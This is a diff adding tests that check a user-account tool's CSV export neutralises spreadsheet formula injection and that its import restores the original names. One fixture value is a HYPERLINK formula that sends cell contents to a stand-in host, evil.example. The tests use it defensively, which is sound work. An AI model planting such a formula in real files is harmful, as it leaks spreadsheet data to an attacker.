@@ -988,3 +988,72 @@ def test_wrong_password_on_yescrypt_costs_an_unknown_name(device):
     assert unknown_median > 0.02, unknown
     assert wrong_median / unknown_median > 0.5, (wrong, unknown)
     assert device.stored_hash(BOB).startswith("$y$")
+
+
+# Cells a spreadsheet would run as formulas.
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Click me")', "+1 555 0100", "-2+3",
+            "@SUM(A1:A9)", "'=already quoted", "''+twice"]
+
+
+def test_export_csv_neutralises_formulas(activated, tmp_path):
+    """A full name, user name or e-mail a spreadsheet would run (starting with `=`, `+`, `-` or
+    `@`, after any `'`s) is exported with a `'` before it and quoted, as OWASP advises; other
+    cells are as they were (a `'` that starts no formula is kept as it is). Imported into another
+    device, the export gives back exactly the same names."""
+    def add(username, full_name, email, password):
+        # `--flag=value`: a value starting with `-` is not taken for a flag.
+        result = activated.run("user", "add", f"--username={username}",
+                               f"--full-name={full_name}", f"--email={email}",
+                               "--password-stdin", input=password + "\n")
+        assert (result.code, result.stderr) == (0, ""), result
+
+    for number, name in enumerate(FORMULAS):
+        add(f"user{number}", name, f"user{number}@example.org", BOB_PASSWORD)
+    add("-minus", "'Quoted' Name", "+tag@example.org", CAROL_PASSWORD)
+    result = export(activated, "--format", "csv")
+    assert (result.code, result.stderr) == (0, ""), result
+    lines = result.stdout.splitlines()
+    by_name = {line.split(",", 1)[0]: line for line in lines[1:]}
+    assert by_name["user0"].startswith(
+        'user0,"\'=HYPERLINK(""http://evil.example/?q=""&A1,""Click me"")",user0@example.org,')
+    assert by_name["user1"].startswith('user1,"\'+1 555 0100",user1@example.org,')
+    assert by_name["user2"].startswith('user2,"\'-2+3",')
+    assert by_name["user3"].startswith('user3,"\'@SUM(A1:A9)",')
+    assert by_name["user4"].startswith('user4,"\'\'=already quoted",')
+    assert by_name["user5"].startswith('user5,"\'\'\'+twice",')
+    assert by_name['"\'-minus"'].startswith(
+        '"\'-minus",\'Quoted\' Name,"\'+tag@example.org",pbkdf2_sha256$')
+    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))[1:]
+    assert {row[1] for row in rows} == {FULL_NAME, "'Quoted' Name"} | {"'" + f for f in FORMULAS}
+    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows for cell in row)
+
+    (activated.root / "all.csv").write_text(result.stdout)
+    other = other_device(tmp_path)
+    shutil.copy(activated.root / "all.csv", other.root / "all.csv")
+    result = import_(other, "all.csv")
+    assert (result.code, result.stderr) == (0, ""), result
+    original = {a["username"]: (a["fullName"], a["email"]) for a in activated.accounts()}
+    imported = {a["username"]: (a["fullName"], a["email"]) for a in other.accounts()}
+    assert imported == {**original, "owen": ("Owen Owner", "owen@example.org")}
+    result = other.run("login", "--no-session", "--username=-minus", "--password-stdin",
+                       input=CAROL_PASSWORD + "\n")
+    assert (result.code, result.out_lines[0]) == (0, "Welcome back 'Quoted' Name!"), result
+
+
+def test_import_csv_takes_off_the_quote_before_a_formula(activated, django_hashers):
+    """A CSV written by hand: a `'` is taken off only where it comes before `'`s and then `=`,
+    `+`, `-` or `@` (what an export writes); anywhere else it is the name's own."""
+    hash_ = pbkdf2(django_hashers, BOB_PASSWORD)
+    write(activated, "users.csv", csv_file([
+        f"bob,'=1+1,bob@example.org,{hash_}",
+        f"carol,\"''-x\",carol@example.org,{hash_}",
+        f"dave,'Dave',dave@example.org,{hash_}",
+        f"erin,'',erin@example.org,{hash_}",
+        f"frank,=plain,frank@example.org,{hash_}",
+    ]))
+    result = import_(activated, "users.csv")
+    assert (result.code, result.stderr) == (0, ""), result
+    assert {a["username"]: a["fullName"] for a in activated.accounts()} == {
+        USERNAME: FULL_NAME, BOB: "=1+1", CAROL: "'-x", DAVE: "'Dave'", ERIN: "''",
+        FRANK: "=plain"}
